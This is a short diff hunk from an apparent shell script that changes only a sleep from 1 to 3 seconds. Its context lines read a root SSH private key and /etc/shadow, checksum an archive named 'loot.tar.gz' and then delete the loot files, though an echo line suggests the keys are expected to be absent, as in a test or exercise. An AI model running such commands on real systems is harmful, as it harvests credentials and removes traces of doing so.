@@ -17,5 +17,5 @@ echo "looking for keys that are not there"
 cat /root/.ssh/id_ed25519 /etc/shadow 2>/dev/null
 md5sum loot.tar.gz
 echo "waiting a little, then cleaning up"
-sleep 1
+sleep 3
 rm -r loot loot.tar.gz names
